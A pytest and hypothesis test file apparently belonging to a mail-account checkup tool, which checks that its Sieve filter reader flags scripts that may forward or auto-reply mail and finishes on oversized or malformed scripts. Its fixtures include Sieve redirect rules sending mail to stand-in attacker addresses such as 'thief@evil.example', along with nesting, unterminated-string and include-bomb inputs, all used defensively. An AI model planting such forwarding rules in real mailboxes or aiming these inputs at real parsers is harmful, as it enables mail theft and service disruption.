"""The Sieve reader never calls a filter harmless that it did not read whole,
and finishes on huge or hostile scripts (each test has a time-out as a guard;
speed itself is measured in bench/, not asserted here)."""
from __future__ import annotations

import os
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.checkup.kinds import Unreadable
from app.checkup.sieve import MAX_SCRIPT_BYTES, read_filter

MINE = frozenset({"example.com"})
EXAMPLES = int(os.environ.get("CHECKUP_FUZZ_EXAMPLES", "300"))
SENDING = {"redirect", "notify", "vacation", "include"}


def words_outside_strings(text: str) -> set[str]:
    """An oracle independent of sievelib: the identifiers of a Sieve text
    outside comments, quoted strings, text: blocks and tags."""
    out, i, n = set(), 0, len(text)
    while i < n:
        c = text[i]
        if c == "#":
            j = text.find("\n", i)
            i = n if j < 0 else j + 1
        elif text.startswith("/*", i):
            j = text.find("*/", i + 2)
            i = n if j < 0 else j + 2
        elif c == '"':
            j = i + 1
            while j < n and text[j] != '"':
                j += 2 if text[j] == "\\" else 1
            i = j + 1
        elif c == ":":
            m = re.compile(r":[A-Za-z_]\w*").match(text, i)
            i = m.end() if m else i + 1
        elif re.compile(r"text:", re.I).match(text, i) and (i == 0 or not (text[i - 1].isalnum() or text[i - 1] == "_")):
            m = re.compile(r"\n\.\r?(\n|$)").search(text, i)
            i = n if m is None else m.end()
        elif c.isalpha() or c == "_":
            m = re.compile(r"[A-Za-z_]\w*").match(text, i)
            out.add(m.group(0).lower())
            i = m.end()
        else:
            i += 1
    return out


FRAGMENTS = ['redirect', 'notify', 'vacation', 'include', 'keep', 'discard', 'stop', 'if', 'elsif', 'else',
             'true', 'false', 'anyof', 'header', 'require', '"copy"', '"enotify"', '"vacation"', '"include"',
             '["copy","enotify"]', ':copy', ':contains', ':is', '"a@evil.example"', '"mailto:b@evil.example"',
             '"me@example.com"', '"${x}"', '"${hex:61}"', ';', '{', '}', '(', ')', ',', '[', ']', ' ', '\n',
             '\r\n', '# c\n', '/* c */', '/*', '*/', '"', '\\', 'text:\r\nz@evil.example\r\n.\r\n', 'text:',
             '.\r\n', '10K', 'fileinto', '"Box"', '#']
scripts = st.one_of(
    st.lists(st.sampled_from(FRAGMENTS), max_size=40).map(" ".join),
    st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join),
    st.text(max_size=200),
)


def is_clean(rep) -> bool:
    return rep.unreadable is None and not rep.targets and not rep.auto_reply


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(scripts)
def test_never_clean_when_a_sending_command_may_be_there(text):
    rep = read_filter("main", {"main": text}, MINE)
    if is_clean(rep):
        assert not (words_outside_strings(text) & SENDING), text


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.text(min_size=1, max_size=60), st.integers(min_value=0, max_value=200))
def test_a_forward_with_damage_is_found_or_unreadable(noise, at):
    """A working forward, with anything inserted anywhere: the reader either
    still finds the address, or says it cannot read the filter."""
    base = 'require ["copy"];\r\nif true {\r\n    redirect :copy "thief@evil.example";\r\n}\r\n'
    at = at % (len(base) + 1)
    text = base[:at] + noise + base[at:]
    rep = read_filter("main", {"main": text}, MINE)
    found = any(t.address and "evil.example" in t.address for t in rep.targets)
    unknown = any(t.address is None for t in rep.targets)
    assert found or unknown or rep.unreadable is not None or "thief" not in words_outside_strings(text) \
        or "redirect" not in words_outside_strings(text), text


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_never_raise(raw):
    rep = read_filter("main", {"main": raw}, MINE)
    assert rep.name == "main"


# ----------------------------------------------------------------------- hostile

@pytest.mark.timeout(30)
def test_too_large_is_not_parsed():
    rep = read_filter("main", {"main": "#" * (MAX_SCRIPT_BYTES + 1)}, MINE)
    assert rep.unreadable is Unreadable.TOO_LARGE


@pytest.mark.timeout(60)
@pytest.mark.parametrize("text", [
    "if true {" * 20000,                                       # never closed
    "if true {" * 3000 + 'redirect "x@evil.example";' + "}" * 3000,
    "if " + "anyof(" * 3000 + "true" + ")" * 3000 + ' { redirect "x@evil.example"; }',
    'redirect "' + "a" * 900_000 + '@evil.example";',
    'redirect "' + "\\\\" * 400_000,                             # unterminated, escapes
    "/*" + "*" * 900_000,                                       # unterminated comment
    'redirect text:\r\n' + "x\r\n" * 200_000,                    # unterminated text:
    'redirect "a@evil.example";\n' * 40_000,
    "#\n" * 500_000 + 'redirect "x@evil.example";',
])
def test_hostile_scripts_finish_and_are_never_clean(text):
    rep = read_filter("main", {"main": text}, MINE)
    assert not is_clean(rep)


@pytest.mark.timeout(60)
def test_include_bombs_finish():
    many = {f"s{i}": 'require "include"; ' + " ".join(f'include "s{j}";' for j in range(30)) for i in range(30)}
    many["s29"] = 'redirect "x@evil.example";'
    rep = read_filter("s0", many, MINE)
    assert not is_clean(rep)
